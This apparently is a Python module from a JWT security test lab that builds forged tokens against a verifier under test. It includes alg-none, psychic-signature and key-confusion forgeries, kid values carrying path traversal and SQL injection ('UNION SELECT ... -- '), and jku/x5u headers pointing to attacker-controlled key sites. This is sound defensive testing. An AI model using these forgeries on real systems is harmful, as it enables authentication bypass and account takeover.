"""How each forgery is made. The one place that knows `jwtlab.attacks`; the rest needs only the bench."""

from __future__ import annotations

import base64
import json
import os
import tempfile
from collections.abc import Mapping
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import quote

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from jwtlab.attacks import ATTACKS, word_list
from jwtlab.jose import base64url, jws
from jwtlab.jose.key import Key
from jwtlab.jose.token import decode
from jwtlab.testing import mallory
from jwtlab.testing.forgery import Bench, Make
from jwtlab.testing.signing import ANY_KEY, nameless


def forge(attack: str, bench: Bench, **knowledge: Any) -> str:
    """What this attack of part 2 makes of what Mallory knows."""
    return ATTACKS[attack].forge(bench.goal, **knowledge)


def signed_by(key: Key, bench: Bench, alg: str = "", **header: Any) -> str:
    """Everything as in a good token, and a goal of Mallory's, but signed with another key."""
    return signed_with(key, bench, bench.claims_of_good(**bench.goal), alg, **header)


def signed_with(
    key: Key, bench: Bench, claims: Mapping[str, Any] | None = None, alg: str = "", **header: Any
) -> str:
    """A token that this key has signed, a good one by default; ``kid`` is the key's unless the header says so."""
    alg = alg or bench.alg
    typ = {"typ": bench.typ} if bench.typ is not None else {}
    name = {"kid": key.kid} if claims is None else {}
    payload = json.dumps(bench.claims_of_good() if claims is None else dict(claims)).encode()
    full = {**typ, **name, **bench.header, **header}
    named = {name: value for name, value in full.items() if value is not None}
    return jws.sign(payload, nameless(key), alg=alg, header=named, policy=ANY_KEY)


def kid_of(bench: Bench) -> str | None:
    kid = decode(bench.good()).header.get("kid")
    return kid if isinstance(kid, str) else None


# Signature and algorithm


def tampered(bench: Bench) -> str:
    return forge("unverified", bench, original=bench.good())


def stripped(bench: Bench) -> str:
    return forge("signature-stripped", bench, original=bench.good())


def without_last_dot(bench: Bench) -> str:
    return stripped(bench).rstrip(".")


def none(spelling: str) -> Make:
    return lambda bench: forge("alg-none", bench, original=bench.good(), spelling=spelling)


def other_key(bench: Bench) -> str:
    return signed_by(bench.own_key, bench, kid=kid_of(bench))


def other_key_without_name(bench: Bench) -> str:
    return signed_by(bench.own_key, bench)


def psychic(form: str) -> Make:
    def make(bench: Bench) -> str:
        size = {"ES256": 64, "ES384": 96, "ES512": 132}[bench.alg]
        zeros = bytes(size) if form == "raw" else base64url.decode("MAYCAQACAQA")
        return forge("psychic-signature", bench, original=bench.good(), signature=zeros)

    return make


def public_key_as_secret(form: str) -> Make:
    def make(bench: Bench) -> str:
        return forge("key-confusion", bench, original=bench.good(), public_key=_octets(bench, form))

    return make


def _octets(bench: Bench, form: str) -> bytes:
    """The public key as it may lie on a disk."""
    key = bench.public_key
    pem = key.to_pem()
    public: Any = key.public_crypto
    if form == "pkcs1":
        return bytes(public.public_bytes(Encoding.PEM, PublicFormat.PKCS1))
    if form == "der":
        return bytes(public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo))
    if form == "base64":
        octets = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        return base64.b64encode(octets)
    if form == "jwk":
        return json.dumps(key.to_jwk() | {"use": "sig"}).encode()
    return {"pem": pem, "pem-no-newline": pem.strip(), "pem-crlf": pem.replace(b"\n", b"\r\n")}[form]


# Tokens that the application has seen


def known_signature(known: str, bench: Bench) -> str:
    """Other claims under the signature of a token that was let in."""
    return forge("unverified", bench, original=known)


def known_claims(known: str, bench: Bench) -> str:
    """A token that was let in, with a signature of Mallory's."""
    return f"{known.rpartition('.')[0]}.{signed_by(bench.own_key, bench).rpartition('.')[2]}"


def known_jti(known: str, bench: Bench) -> str:
    """Claims of Mallory's under the ``jti`` of a token that was let in."""
    claims = bench.claims_of_good(**bench.goal, sub="somebody-else")
    header, own = decode(known).header, decode(known).claims
    return signed_with(bench.own_key, bench, {**claims, "jti": own.get("jti")}, kid=header.get("kid"))


def of_nobody(bench: Bench) -> str:
    """Under a ``kid`` that nobody has seen: whoever looks for it has to ask the issuer."""
    return signed_by(bench.own_key, bench, kid="nobody-has-seen-it")


# Secrets


def empty_secret(bench: Bench) -> str:
    return signed_by(Key.from_secret(b""), bench, "HS256", kid=kid_of(bench))


def guessed_secret(bench: Bench) -> str:
    """With the application's secret, if it stands in a list of words; else with the first word of it."""
    secret = bench.issuer.secret
    word = secret if secret in _words() else b"changeme"
    return signed_by(Key.from_secret(word), bench, kid=kid_of(bench))


@cache
def _words() -> frozenset[bytes]:
    more = (b"your-256-bit-secret", b"your-secret-key", b"super-secret", b"change-me", b"dev", b"test")
    return frozenset((*word_list(), *more))


def is_short(bench: Bench) -> bool:
    """The secret is shorter than its hash (RFC 7518 §3.2), and so no word of a list."""
    secret = bench.issuer.secret
    return secret is not None and len(secret) < int(bench.alg[2:]) // 8 and secret not in _words()


def short_secret(bench: Bench) -> str:
    return bench.good()


# Keys that Mallory brings


def _own_jwk(bench: Bench) -> dict[str, Any]:
    return bench.own_key.to_jwk(private=bench.is_hmac)


def embedded_jwk(bench: Bench) -> str:
    return signed_by(bench.own_key, bench, jwk=_own_jwk(bench), kid=mallory.KID)


def embedded_jwk_under_known_name(bench: Bench) -> str:
    """For whoever compares the name, and then takes the key that stands beside it."""
    kid = kid_of(bench)
    return signed_by(bench.own_key, bench, jwk={**_own_jwk(bench), "kid": kid}, kid=kid)


def on_site(address: str, bench: Bench) -> str:
    """An address on Mallory's site, or one that looks like the issuer's and is not."""
    own = bench.issuer.issuer.removeprefix("http://")
    kid = quote(kid_of(bench) or mallory.KID)
    return address.format(site=bench.issuer.site.host, issuer=own, alg=bench.alg, kid=kid)


def jku(address: str) -> Make:
    def make(bench: Bench) -> str:
        kid = kid_of(bench) if "{kid}" in address else mallory.KID
        return signed_by(bench.own_key, bench, jku=on_site(address, bench), kid=kid)

    return make


def own_issuer(address: str) -> Make:
    """``iss`` leads to an issuer of Mallory's, complete with its metadata and its keys."""

    def make(bench: Bench) -> str:
        iss = on_site(address, bench)
        claims = bench.claims_of_good(**bench.goal, iss=iss)
        return signed_with(bench.own_key, bench, claims, kid=kid_of(bench))

    return make


def x5u(bench: Bench) -> str:
    address = f"http://{bench.issuer.site.host}/certificate.pem/{bench.alg}"
    return signed_by(bench.own_key, bench, x5u=address, kid=mallory.KID)


def x5c(bench: Bench) -> str:
    return signed_by(bench.own_key, bench, x5c=mallory.chain(bench.alg), kid=mallory.KID)


def x5c_under_known_name(bench: Bench) -> str:
    return signed_by(bench.own_key, bench, x5c=mallory.chain(bench.alg), kid=kid_of(bench))


UP = "../" * 16
KNOWN_FILE = Path("/proc/sys/kernel/randomize_va_space")
"""Linux has it, and everybody knows what is in it."""


def kid_path(kid: str) -> Make:
    """kid is a path to a file whose content is known: an empty one, or one that Mallory uploaded."""

    def make(bench: Bench) -> str:
        if kid == "uploaded":
            path = _uploaded(bench.alg)
            return signed_by(bench.own_key, bench, kid=f"{UP}{path.lstrip('/')}")
        if kid == "absolute":  # os.path.join and pathlib forget what stands before it
            return signed_by(bench.own_key, bench, kid=_uploaded(bench.alg))
        secret = KNOWN_FILE.read_bytes() if kid == str(KNOWN_FILE) and KNOWN_FILE.is_file() else b""
        name = f"{UP}{kid.lstrip('/')}"
        return forge("kid-path-traversal", bench, original=bench.good(), kid=name, secret=secret)

    return make


@cache
def _uploaded(alg: str) -> str:
    """Mallory's key in a file on this machine, with and without an ending; the path without it."""
    room = Path(tempfile.mkdtemp(prefix="jwtlab-upload-"))
    own = mallory.key(alg)
    octets = own.secret if own.is_symmetric else own.public().to_pem()
    for name in ("avatar", "avatar.pem", "avatar.key", "avatar.pub"):
        (room / name).write_bytes(octets)
    _TIDY.append(room)
    return str(room / "avatar")


class _Tidy(list[Path]):
    """What was written is taken away when the process ends."""

    def __init__(self) -> None:
        super().__init__()
        import atexit

        atexit.register(self.away)

    def away(self) -> None:
        import shutil

        for room in self:
            shutil.rmtree(room, ignore_errors=True)


_TIDY = _Tidy()


def kid_sql(mark: str) -> Make:
    """kid is a piece of SQL that gives a key of Mallory's back."""

    def make(bench: Bench) -> str:
        own = bench.own_key
        if own.is_symmetric:
            kid = f"x{mark} UNION SELECT {mark}mallory-knows-this-one{mark} -- "
            secret = b"mallory-knows-this-one"
            return signed_by(Key.from_secret(secret), bench, kid=kid)
        pem = own.public().to_pem().decode()
        return signed_by(own, bench, kid=f"x{mark} UNION SELECT {mark}{pem}{mark} -- ")

    return make


def has_dev_null(bench: Bench) -> bool:
    return os.devnull == "/dev/null"


def has_known_file(bench: Bench) -> bool:
    return KNOWN_FILE.is_file()
